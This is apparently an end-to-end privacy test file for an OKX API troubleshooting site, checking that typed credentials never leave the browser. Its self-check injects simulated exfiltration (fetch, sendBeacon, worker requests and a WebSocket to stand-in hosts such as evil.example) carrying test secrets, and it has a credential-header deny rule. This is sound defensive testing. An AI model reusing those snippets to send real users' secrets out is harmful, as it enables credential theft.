// End-to-end: nothing leaks (issue 9, item 7). Every request of every page, frame and worker is
// recorded at the context level (plus every WebSocket and the frames sent on it) while a user
// goes through the whole site, root build and sub-folder build: home, search, a paste full of
// credentials and a unique canary, findings, error pages, the wizard to its report, the signature
// lab with a secret typed in, the clock check in all three regions, every embed page, a blog that
// embeds the site with embed.js, the 404 page. Then:
// - the only destinations are the site's own server and OKX's public time endpoints (hard-coded
//   below on purpose: a new destination in the app must fail this test until it is added here);
//   the loopback fake OKX only in the flow that sets ?okx_base=, the blog's server only for the blog;
// - requests to OKX are body-less GETs without credentials headers;
// - no URL, header, body or WebSocket frame carries anything typed (raw, URL-encoded or base64);
// - storage holds nothing but the documented preferences (theme, clock region): no cookies,
//   sessionStorage, IndexedDB, Cache Storage or service worker.
// The first test proves the recorder catches fetch, beacons, images, WebSockets and workers.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import crypto from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { serveDist, startScript, launch, appReady, ROOT } from "./helpers.mjs";

// ------------------------------------------------------------------------------ the allowlist
// What the app may contact besides the server it is served from (src/core/clock.rs, Host).
const OKX_TIME_URLS = new Set([
  "https://www.okx.com/api/v5/public/time",
  "https://eea.okx.com/api/v5/public/time",
  "https://us.okx.com/api/v5/public/time",
]);
const OKX_WEBSOCKETS = new Set([
  "wss://ws.okx.com:8443/ws/v5/public",
  "wss://wseea.okx.com:8443/ws/v5/public",
  "wss://wsus.okx.com:8443/ws/v5/public",
]);
// What the app may keep in localStorage (src/ui/theme.rs, src/ui/clock.rs, the library picker's
// preference in public/theme.js), and the values.
const STORAGE_ALLOWED = {
  "okx-doctor-theme": /^(light|dark|auto)$/,
  "okx-doctor-lib": /^(ccxt-python|ccxt-js|ccxt-php|python-okx|okx-api-node|freqtrade|http)$/,
  "okx-doctor.clock.host": /^(global|eea|us)$/,
};

// Typed by the "user": an API key, a secret key, a passphrase and a unique marker.
const rand = crypto.randomBytes(8).toString("hex");
const SECRETS = {
  canary: `LEAKCANARY-${rand}`,
  apiKey: crypto.randomUUID(),
  secretKey: crypto.randomBytes(16).toString("hex").toUpperCase(),
  passphrase: `Pp!${crypto.randomBytes(5).toString("hex")}`,
};
/** Every form a typed value could travel in. */
const NEEDLES = [...new Set(Object.values(SECRETS).flatMap((s) => [s, encodeURIComponent(s), Buffer.from(s).toString("base64").replace(/=+$/, "")]))];

const LOG = `2026-11-23 10:00:01,123 INFO exchange init apiKey=${SECRETS.apiKey} secret=${SECRETS.secretKey} password=${SECRETS.passphrase} run=${SECRETS.canary}
headers: {'OK-ACCESS-KEY': '${SECRETS.apiKey}', 'OK-ACCESS-PASSPHRASE': '${SECRETS.passphrase}', 'OK-ACCESS-TIMESTAMP': '2026-11-23T10:00:01.123Z'}
ccxt.base.errors.AuthenticationError: okx {"msg":"Invalid Sign","code":"50113"} ${SECRETS.canary}
2026-11-23 10:00:02,456 WARNING retrying: okx {"msg":"Too Many Requests ${SECRETS.canary}","code":"50011"}`;

// ------------------------------------------------------------------------------ the recorder

/** Records every request of `context` (pages, frames, workers) and every WebSocket with its frames. */
function record(context) {
  const log = { requests: [], sockets: [], navigations: [] };
  context.on("request", (r) => {
    log.requests.push({ url: r.url(), method: r.method(), headers: r.headers(), body: r.postData() ?? "", type: r.resourceType(), req: r });
  });
  const watch = (page) => {
    page.on("websocket", (ws) => {
      const s = { url: ws.url(), sent: [] };
      log.sockets.push(s);
      ws.on("framesent", (f) => s.sent.push(String(f.payload)));
    });
    page.on("framenavigated", (f) => log.navigations.push(f.url()));
  };
  context.on("page", watch);
  for (const p of context.pages()) watch(p);
  return log;
}

/** Adds the headers Chromium really sent (cookies included) where they can still be read. */
async function completeHeaders(log) {
  await Promise.all(log.requests.map(async (e) => {
    const all = await Promise.race([e.req.allHeaders().catch(() => null), new Promise((r) => setTimeout(() => r(null), 2000))]);
    if (all) e.headers = { ...e.headers, ...all };
  }));
}

/**
 * The check, as a pure function of what was recorded. `allow`: { origins: the site's (and other
 * test servers') origins, rest: extra time URLs, ws: extra WebSocket URLs }. Returns the violations.
 */
function violations(log, allow) {
  const out = [];
  const secretIn = (where, text) => {
    for (const n of NEEDLES) if (text.includes(n)) out.push(`${where} carries typed text (${n.slice(0, 12)}…)`);
  };
  for (const e of log.requests) {
    let u;
    try { u = new URL(e.url); } catch { out.push(`unparsable request URL ${e.url}`); continue; }
    const where = `${e.method} ${e.url.slice(0, 120)}`;
    if (u.protocol === "data:") {
      // Inline, never leaves the browser.
    } else if (allow.origins.includes(u.origin)) {
      if (e.method !== "GET") out.push(`${where}: not a GET to a static server`);
      if (e.body) out.push(`${where}: has a body`);
    } else {
      const bare = `${u.origin}${u.pathname}`;
      if (!OKX_TIME_URLS.has(bare) && !(allow.rest ?? []).includes(bare)) {
        out.push(`${where}: destination not allowed`);
      } else {
        if (u.search || u.hash || u.username || u.password) out.push(`${where}: extra URL parts`);
        if (e.method !== "GET") out.push(`${where}: not a GET`);
        if (e.body) out.push(`${where}: has a body`);
        for (const h of Object.keys(e.headers)) {
          if (/^(ok-access-|x-simulated|authorization$|cookie$)/i.test(h)) out.push(`${where}: sends header ${h}`);
        }
      }
    }
    secretIn(where, e.url);
    secretIn(`${where} headers`, JSON.stringify(e.headers));
    secretIn(`${where} body`, e.body);
  }
  for (const s of log.sockets) {
    if (!OKX_WEBSOCKETS.has(s.url) && !(allow.ws ?? []).includes(s.url)) out.push(`WebSocket to ${s.url}: destination not allowed`);
    secretIn(`WebSocket ${s.url}`, s.url);
    for (const f of s.sent) secretIn(`frame sent on ${s.url}`, f);
  }
  for (const n of log.navigations) secretIn(`address ${n.slice(0, 120)}`, n);
  return out;
}

/** localStorage, sessionStorage, cookies, IndexedDB, Cache Storage, service workers of the page's origin. */
async function storageOf(page) {
  return page.evaluate(async () => ({
    origin: location.origin,
    local: Object.fromEntries(Object.entries(localStorage)),
    session: Object.fromEntries(Object.entries(sessionStorage)),
    cookie: document.cookie,
    idb: indexedDB.databases ? (await indexedDB.databases()).map((d) => d.name) : [],
    caches: self.caches ? await caches.keys() : [],
    workers: navigator.serviceWorker ? (await navigator.serviceWorker.getRegistrations()).length : 0,
  }));
}

function storageViolations(st) {
  const out = [];
  for (const [k, v] of Object.entries(st.local)) {
    if (!STORAGE_ALLOWED[k]) out.push(`${st.origin} localStorage ${k}=${v.slice(0, 40)}: not a documented preference`);
    else if (!STORAGE_ALLOWED[k].test(v)) out.push(`${st.origin} localStorage ${k}=${v.slice(0, 40)}: unexpected value`);
  }
  if (Object.keys(st.session).length) out.push(`${st.origin} sessionStorage: ${Object.keys(st.session)}`);
  if (st.cookie) out.push(`${st.origin} cookies: ${st.cookie}`);
  if (st.idb.length) out.push(`${st.origin} IndexedDB: ${st.idb}`);
  if (st.caches.length) out.push(`${st.origin} Cache Storage: ${st.caches}`);
  if (st.workers) out.push(`${st.origin} service workers: ${st.workers}`);
  for (const n of NEEDLES) if (JSON.stringify(st).includes(n)) out.push(`${st.origin} storage holds typed text`);
  return out;
}

// ----------------------------------------------------------------------------------- set-up

let browser;
const servers = [];
before(async () => { browser = await launch(); });
after(async () => { await browser?.close(); for (const s of servers) s.stop(); });

async function serveBlog(siteUrl) {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "okx-noleak-blog-"));
  const html = fs.readFileSync(path.join(ROOT, "tests/support/blog/index.html"), "utf8").replaceAll("{{SITE}}", siteUrl);
  fs.writeFileSync(path.join(dir, "index.html"), html);
  const s = await startScript("tests/support/static-server.mjs", ["--dir", dir, "--port", "0"]);
  servers.push(s);
  return `http://localhost:${s.port}/`;
}

/** Waits until the clock check on the page (or frame) has ended, either way. */
async function clockEnded(p) {
  await p.waitForSelector("[data-testid=clock-result], [data-testid=clock-error]", { timeout: 15000 });
}

// ------------------------------------------------------------------------------ self-check

test("the recorder and the check catch a leak (fetch, beacon, image, WebSocket, worker)", async () => {
  // The pure check on a known-bad log.
  const bad = {
    requests: [
      { url: "https://example.com/x", method: "GET", headers: {}, body: "" },
      { url: "https://www.okx.com/api/v5/public/time", method: "POST", headers: {}, body: "{}" },
      { url: "https://www.okx.com/api/v5/public/time?k=1", method: "GET", headers: { "ok-access-key": "k" }, body: "" },
      { url: "https://www.okx.com/api/v5/account/balance", method: "GET", headers: {}, body: "" },
      { url: `http://127.0.0.1:1/x?q=${encodeURIComponent(SECRETS.passphrase)}`, method: "GET", headers: {}, body: "" },
      { url: "http://127.0.0.1:1/y", method: "GET", headers: { "x-a": Buffer.from(SECRETS.apiKey).toString("base64") }, body: "" },
    ],
    sockets: [{ url: "wss://evil.example/ws", sent: [] }, { url: "wss://ws.okx.com:8443/ws/v5/public", sent: [`{"op":"login","args":["${SECRETS.secretKey}"]}`] }],
    navigations: [`http://127.0.0.1:1/?q=${SECRETS.canary}`],
  };
  const v = violations(bad, { origins: ["http://127.0.0.1:1"] });
  for (const want of [/example\.com\/x: destination not allowed/, /POST https:\/\/www\.okx\.com.*not a GET/, /has a body/, /extra URL parts/,
    /sends header ok-access-key/, /account\/balance: destination not allowed/, /127\.0\.0\.1:1\/x.*carries typed text/, /\/y headers carries typed text/,
    /WebSocket to wss:\/\/evil\.example\/ws/, /frame sent on wss:\/\/ws\.okx\.com.*carries typed text/, /address .*carries typed text/]) {
    assert.ok(v.some((x) => want.test(x)), `check flags ${want}: ${JSON.stringify(v, null, 1)}`);
  }
  assert.deepEqual(violations({ requests: [{ url: "https://us.okx.com/api/v5/public/time", method: "GET", headers: {}, body: "" }], sockets: [{ url: "wss://wsus.okx.com:8443/ws/v5/public", sent: ["ping"] }], navigations: [] }, { origins: [] }), []);
  assert.deepEqual(storageViolations({ origin: "o", local: { "okx-doctor-theme": "dark", x: SECRETS.canary }, session: {}, cookie: "", idb: [], caches: [], workers: 0 }),
    [`o localStorage x=${SECRETS.canary}: not a documented preference`, "o storage holds typed text"]);
  assert.equal(storageViolations({ origin: "o", local: { "okx-doctor-theme": "blue" }, session: { a: "1" }, cookie: "c=1", idb: ["d"], caches: ["k"], workers: 1 }).length, 6);

  // The live recorder: what an injected script sends is seen, from the page and from a worker.
  const site = await serveDist("dist", "/");
  servers.push(site);
  // (With the site's CSP on, the browser would refuse most of these before any request.)
  const context = await browser.newContext({ bypassCSP: true });
  const log = record(context);
  const page = await context.newPage();
  await page.goto(site.url("sign/"));
  await appReady(page);
  await page.evaluate((c) => {
    fetch(`https://example.com/x?c=${c}`).catch(() => {});
    navigator.sendBeacon("https://example.net/beacon", c);
    new Image().src = "https://example.org/i.png";
    try { new WebSocket("wss://example.com/ws"); } catch {}
    const w = new Worker(URL.createObjectURL(new Blob([`fetch("https://worker.example/w").catch(() => {})`], { type: "text/javascript" })));
    w.onerror = () => {};
  }, SECRETS.canary);
  for (let i = 0; i < 100; i++) {
    const urls = log.requests.map((e) => e.url).join(" ") + log.sockets.map((s) => s.url).join(" ");
    if (["example.com/x", "example.net/beacon", "example.org/i.png", "wss://example.com/ws", "worker.example/w"].every((u) => urls.includes(u))) break;
    await page.waitForTimeout(100);
  }
  await completeHeaders(log);
  const live = violations(log, { origins: [site.origin] });
  for (const want of [/example\.com\/x\?c=.*destination not allowed/, /example\.com\/x.*carries typed text/, /example\.net\/beacon: destination not allowed/,
    /example\.net\/beacon body carries typed text/, /example\.org\/i\.png/, /WebSocket to wss:\/\/example\.com\/ws/, /worker\.example\/w: destination not allowed/]) {
    assert.ok(live.some((x) => want.test(x)), `recorder catches ${want}: ${JSON.stringify(live, null, 1)}`);
  }
  await context.close();
});

// ------------------------------------------------------------------------------ the flows

/** The whole site, as a user would use it, on `site`; `blogUrl` embeds it. */
async function walkSite(page, site, blogUrl) {
  const steps = [];
  const step = (s) => steps.push(s);

  // Home: search, then the paste with credentials and the canary.
  await page.goto(site.url(""));
  await appReady(page);
  await page.fill("[data-testid=catalog-search]", "invalid sign");
  await page.waitForSelector("[data-testid=catalog-table] tr[data-code='50113']");
  await page.fill("[data-testid=catalog-search]", "");
  await page.fill("[data-testid=paste-input]", LOG);
  await page.waitForSelector("[data-testid=credential-warning]");
  await page.waitForSelector("[data-testid=finding][data-code='50113']");
  await page.click("[data-testid=theme-toggle]");
  step("home: search, paste, theme");

  // A finding's page, back, then its wizard to a fix, "still failing" to the report, a version typed.
  await page.locator("[data-testid=finding][data-code='50113'] [data-testid=finding-link]").click();
  await page.waitForSelector("[data-testid=error-code]");
  await page.goBack();
  await appReady(page);
  await page.fill("[data-testid=paste-input]", LOG);
  await page.waitForSelector("[data-testid=finding][data-code='50113']");
  await page.locator("[data-testid=finding][data-code='50113'] [data-testid=finding-wizard]").click();
  await page.waitForURL(/\/wizard\/\?/);
  await appReady(page);
  for (let i = 0; i < 40; i++) {
    await page.waitForSelector("[data-testid=wizard-question], [data-testid=wizard-fix], [data-testid=wizard-report], [data-testid=wizard-categories]");
    if (await page.locator("[data-testid=wizard-report]").count()) break;
    if (await page.locator("[data-testid=wizard-fix]").count()) {
      await page.click("[data-testid=wizard-still-failing]");
    } else if (await page.locator("[data-testid=wizard-question]").count()) {
      await page.locator("[data-testid=wizard-question] [data-testid^=wizard-answer-]").first().click();
    } else {
      await page.click("[data-testid=wizard-category-auth_signature]");
      await page.waitForURL(/\/wizard\/\?/);
      await appReady(page);
    }
    await page.waitForTimeout(50);
  }
  await page.waitForSelector("[data-testid=wizard-report]");
  await page.fill(".wizard-version-input", `4.4.12 ${SECRETS.canary}`);
  step("finding → error page → wizard → report");

  // Error pages (known, sub-code, WebSocket, unknown), a 404, "Diagnose my case".
  for (const p of ["e/50011/", "e/51008/", "e/60009/", "e/99999/", "no/such/page/"]) {
    await page.goto(site.url(p));
    await appReady(page);
  }
  await page.goto(site.url("e/50119/"));
  await appReady(page);
  await page.click("[data-testid=diagnose-my-case]");
  await page.waitForSelector("[data-testid=wizard-question]");
  step("error pages, 404, diagnose my case");

  // The signature lab with every secret typed in.
  await page.goto(site.url("sign/"));
  await appReady(page);
  await page.fill("[data-testid=sign-key]", SECRETS.apiKey);
  await page.fill("[data-testid=sign-secret]", SECRETS.secretKey);
  await page.fill("[data-testid=sign-passphrase]", SECRETS.passphrase);
  await page.click("[data-testid=sign-secret-toggle]");
  await page.selectOption("[data-testid=sign-method]", "POST");
  await page.fill("[data-testid=sign-path]", `/api/v5/trade/order?tag=${SECRETS.canary}`);
  await page.fill("[data-testid=sign-body]", `{"instId":"BTC-USDT","tag":"${SECRETS.canary}"}`);
  await page.fill("[data-testid=sign-compare]", SECRETS.canary);
  await page.waitForFunction(() => document.querySelector("[data-testid=sign-signature]").textContent.trim().length > 20);
  await page.check("[data-testid=sign-demo]");
  await page.check("[data-testid=sign-ws]");
  step("signature lab");

  // The clock in every region (offline here: the attempts are what counts).
  await page.goto(site.url("clock/"));
  await appReady(page);
  await clockEnded(page);
  for (const [region, host] of [["eea", "eea"], ["us", "us"], ["global", "www"]]) {
    const asked = page.waitForRequest(`https://${host}.okx.com/api/v5/public/time`);
    await page.selectOption("[data-testid=clock-host]", region);
    await asked;
    await page.waitForSelector("[data-testid=clock-recheck]:not([disabled])");
    await clockEnded(page);
  }
  step("clock, three regions");

  // Embed pages, with a paste in the embed.
  await page.goto(site.url("embed/?theme=dark&compact=1&lang=ccxt-python"));
  await appReady(page);
  await page.fill("[data-testid=paste-input]", LOG);
  await page.waitForSelector("[data-testid=finding]");
  for (const p of ["embed/e/50011/", "embed/e/99999/", "embed/clock/"]) {
    await page.goto(site.url(p));
    await appReady(page);
  }
  await clockEnded(page);
  step("embed pages");

  // A blog of another origin with embed.js: every widget loads; the paste widget gets the log.
  await page.goto(blogUrl);
  for (const id of ["#w-error", "#w-paste", "#w-clock", "#w-raw"]) {
    const el = await page.waitForSelector(id === "#w-raw" ? id : `${id} iframe`);
    await el.scrollIntoViewIfNeeded();
    const frame = await el.contentFrame();
    await frame.waitForSelector("html[data-started]", { state: "attached", timeout: 20000 });
    if (id === "#w-paste") {
      await frame.fill("[data-testid=paste-input]", LOG);
      await frame.waitForSelector("[data-testid=finding]");
    }
    if (id === "#w-clock") await clockEnded(frame);
  }
  step("blog with embed.js");
  return steps;
}

const summary = [];

for (const [dist, prefix] of [["dist", "/"], ["dist-sub", "/some/path/"]]) {
  test(`no leaks on the ${prefix === "/" ? "root" : "sub-folder"} build: every flow, every request, storage`, async (t) => {
    if (!fs.existsSync(path.join(ROOT, dist, "index.html"))) return t.skip(`${dist}/ not built`);
    const site = await serveDist(dist, prefix);
    servers.push(site);
    const blogUrl = await serveBlog(site.root(""));
    const blogOrigin = new URL(blogUrl).origin;
    const context = await browser.newContext({ viewport: { width: 1000, height: 900 } });
    const log = record(context);
    const page = await context.newPage();
    const errors = [];
    page.on("pageerror", (e) => errors.push(e.message));
    const steps = await walkSite(page, site, blogUrl);

    // Storage of the site's origin (first party) after everything.
    await page.goto(site.url(""));
    await appReady(page);
    const stored = await storageOf(page);
    const cookies = await context.cookies();
    await page.waitForTimeout(300);
    await completeHeaders(log);
    const v = [
      ...violations(log, { origins: [site.origin, blogOrigin] }),
      ...storageViolations(stored),
      ...cookies.map((c) => `cookie ${c.name} for ${c.domain}`),
    ];
    // The blog's own server only served the blog page itself.
    for (const e of log.requests) {
      if (e.url.startsWith(blogOrigin) && new URL(e.url).pathname !== "/") v.push(`blog server asked for ${e.url}`);
    }
    const hosts = [...new Set([...log.requests.map((e) => { try { return new URL(e.url).origin; } catch { return e.url; } }), ...log.sockets.map((s) => s.url)])].sort();
    const okx = log.requests.filter((e) => OKX_TIME_URLS.has(e.url)).length;
    summary.push(`${prefix}: ${log.requests.length} requests, ${log.sockets.length} WebSockets, ${okx} OKX time requests; destinations: ${hosts.join(", ")}`);
    t.diagnostic(summary.at(-1));
    t.diagnostic(`steps: ${steps.join("; ")}`);
    assert.deepEqual(v, []);
    assert.deepEqual(errors, []);
    assert.deepEqual(Object.keys(stored.local).sort(), ["okx-doctor-theme", "okx-doctor.clock.host"], "the two preferences were stored (the flows did change them)");
    // The attempts were made, in every region (offline here, so they failed).
    for (const u of OKX_TIME_URLS) assert.ok(log.requests.some((e) => e.url === u), `the clock asked ${u}`);
    for (const u of OKX_WEBSOCKETS) assert.ok(log.sockets.some((s) => s.url === u), `the clock fell back to ${u}`);
    await context.close();
  });
}

test("no leaks with ?okx_base=: the loopback fake OKX is contacted only for the time, and only there", async () => {
  const site = await serveDist("dist", "/");
  servers.push(site);
  const fake = await startScript("tests/support/fake-okx.mjs", ["--port", "0", "--fault", "no-cors", "--skew-ms", "-1500"]);
  servers.push(fake);
  const base = `http://127.0.0.1:${fake.port}`;
  const context = await browser.newContext();
  const log = record(context);
  const page = await context.newPage();
  await page.goto(site.url(`clock/?okx_base=${encodeURIComponent(base)}`));
  await appReady(page);
  // REST is blocked by CORS, so this run also goes through the WebSocket.
  await page.waitForSelector("[data-testid=clock-result]", { timeout: 15000 });
  assert.match(await page.getAttribute("[data-testid=clock-result]", "data-method"), /^WebSocket/);
  // And the override does not leak into other pages.
  await page.goto(site.url("sign/"));
  await appReady(page);
  await page.fill("[data-testid=sign-secret]", SECRETS.secretKey);
  await completeHeaders(log);
  const v = violations(log, { origins: [site.origin], rest: [`${base}/api/v5/public/time`], ws: [`ws://127.0.0.1:${fake.port}/ws/v5/public`] });
  assert.deepEqual(v, []);
  const fakeRest = log.requests.filter((e) => e.url.startsWith(base));
  assert.ok(fakeRest.length >= 1 && fakeRest.every((e) => e.url === `${base}/api/v5/public/time`));
  assert.ok(log.sockets.some((s) => s.url === `ws://127.0.0.1:${fake.port}/ws/v5/public` && s.sent.length > 0));
  assert.equal(log.requests.filter((e) => OKX_TIME_URLS.has(e.url)).length, 0, "no real OKX request while overridden");
  summary.push(`okx_base: ${log.requests.length} requests (${fakeRest.length} to the fake), ${log.sockets.length} WebSocket(s), frames sent: ${log.sockets.flatMap((s) => s.sent).map((f) => f.slice(0, 40)).join(" | ")}`);
  await context.close();
});

test("summary", () => {
  for (const s of summary) console.log(`# ${s}`);
});
